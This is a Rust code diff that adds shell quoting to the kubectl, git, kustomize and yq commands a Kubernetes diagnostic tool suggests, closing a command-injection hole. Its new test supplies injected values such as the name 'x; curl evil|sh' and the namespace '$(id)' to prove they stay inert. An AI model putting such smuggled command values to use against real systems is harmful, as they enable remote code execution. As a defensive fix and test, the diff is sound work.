@@ -1,4 +1,5 @@
 use manifest::ObjectId;
+use runtime::shell_word;
 use ssa::{ApiError, FailingPod, ObjectCause, ObjectError};
 
 /// Most objects whose place in the source is told.
@@ -19,22 +20,26 @@ pub(crate) fn refused(error: &ObjectError, account: Option<&str>) -> String {
         return run(&id.namespace, "describe resourcequota");
     }
     if text.contains("because it is being terminated") {
-        return run("", &format!("get namespace {} -o yaml", id.namespace));
+        return run("", &format!("get namespace {} -o yaml", shell_word(&id.namespace)));
     }
     if text.contains("failed calling webhook") || text.contains("admission webhook") {
         return run("", "get validatingwebhookconfigurations,mutatingwebhookconfigurations");
     }
     match &error.cause {
-        ObjectCause::NoMatch(gvk) => run("", &format!("api-resources --api-group={}", gvk.group)),
+        ObjectCause::NoMatch(gvk) => {
+            run("", &format!("api-resources --api-group={}", shell_word(&gvk.group)))
+        }
         ObjectCause::StillThere => run(&id.namespace, &format!("get {} -o yaml", named(id))),
-        _ if text.contains("namespaces \"") => run("", &format!("get namespace {}", id.namespace)),
+        _ if text.contains("namespaces \"") => {
+            run("", &format!("get namespace {}", shell_word(&id.namespace)))
+        }
         _ if error.api().is_some_and(ApiError::is_forbidden) => may_what(&id.namespace, account),
         _ => describe(id),
     }
 }
 
 fn may_what(namespace: &str, account: Option<&str>) -> String {
-    let account = account.map(|account| format!(" --as={account}")).unwrap_or_default();
+    let account = account.map(|account| format!(" --as={}", shell_word(account))).unwrap_or_default();
     run(namespace, &format!("auth can-i --list{account}"))
 }
 
@@ -47,17 +52,17 @@ pub(crate) fn unhealthy(id: &ObjectId, pod: Option<&FailingPod>) -> String {
     }
     match &cause.container {
         Some(container) if cause.reason == "CrashLoopBackOff" => {
-            run(&id.namespace, &format!("logs {pod} -c {container} --previous"))
+            run(&id.namespace, &format!("logs {} -c {} --previous", shell_word(pod), shell_word(container)))
         }
-        _ => run(&id.namespace, &format!("describe pod {pod}")),
+        _ => run(&id.namespace, &format!("describe pod {}", shell_word(pod))),
     }
 }
 
 /// What to run about a build that fails: the same build, where the repository is at hand. None for sources that are
 /// not Git.
 pub(crate) fn rebuild(revision: &str, path: &str) -> Option<String> {
-    let path = path.trim_start_matches("./").trim_matches('/');
-    Some(format!("Run: git checkout {} && kustomize build ./{path}", commit(revision)?))
+    let path = format!("./{}", path.trim_start_matches("./").trim_matches('/'));
+    Some(format!("Run: git checkout {} && kustomize build {}", commit(revision)?, shell_word(&path)))
 }
 
 /// What to run about a path that is not there: the folders that are.
@@ -67,13 +72,14 @@ pub(crate) fn folders(revision: &str) -> Option<String> {
 
 /// What to run about something of the namespace that is referred to. Of a Secret `describe` shows keys and sizes only.
 pub(crate) fn look_at(namespace: &str, kind: &str, name: &str) -> String {
-    run(namespace, &format!("describe {} {name}", kind.to_ascii_lowercase()))
+    run(namespace, &format!("describe {} {}", kind.to_ascii_lowercase(), shell_word(name)))
 }
 
 /// How to take fields of the server out of a file.
 pub(crate) fn strip(file: &str, fields: &[String]) -> String {
     let paths: Vec<String> = fields.iter().map(|field| format!(".{field}")).collect();
-    format!("Run: yq -i 'del({})' {file}", paths.join(", "))
+    let delete = format!("del({})", paths.join(", "));
+    format!("Run: yq -i {} {}", shell_word(&delete), shell_word(file))
 }
 
 /// What to run about an object that does not go away.
@@ -87,11 +93,13 @@ fn describe(id: &ObjectId) -> String {
 
 fn named(id: &ObjectId) -> String {
     let group = if id.group.is_empty() { String::new() } else { format!(".{}", id.group) };
-    format!("{}{group}/{}", id.kind.to_ascii_lowercase(), id.name)
+    let text = format!("{}{group}/{}", id.kind.to_ascii_lowercase(), id.name);
+    shell_word(&text).into_owned()
 }
 
 fn run(namespace: &str, what: &str) -> String {
-    let namespace = if namespace.is_empty() { String::new() } else { format!("-n {namespace} ") };
+    let namespace =
+        if namespace.is_empty() { String::new() } else { format!("-n {} ", shell_word(namespace)) };
     format!("Run: kubectl {namespace}{what}")
 }
 
@@ -163,6 +171,19 @@ mod tests {
         );
         assert_eq!(unhealthy(&id, Some(&pod("ImagePullBackOff"))), "Run: kubectl -n ns describe pod web-1");
         assert_eq!(unhealthy(&id, None), "Run: kubectl -n ns describe deployment.apps/web");
+    }
+
+    #[test]
+    fn names_and_paths_of_a_stranger_are_words_and_no_commands() {
+        let odd =
+            ObjectId { name: "x; curl evil|sh".into(), namespace: "$(id)".into(), ..id("ns_web__ConfigMap") };
+        assert_eq!(describe(&odd), "Run: kubectl -n '$(id)' describe 'configmap/x; curl evil|sh'");
+        assert_eq!(holders(&odd).matches("'configmap/x; curl evil|sh'").count(), 1);
+        assert_eq!(strip("a b.yaml", &["status".into()]), "Run: yq -i 'del(.status)' 'a b.yaml'");
+        assert_eq!(
+            rebuild("main@sha1:ab12", "./a;b").unwrap(),
+            "Run: git checkout ab12 && kustomize build './a;b'"
+        );
     }
 
     #[test]
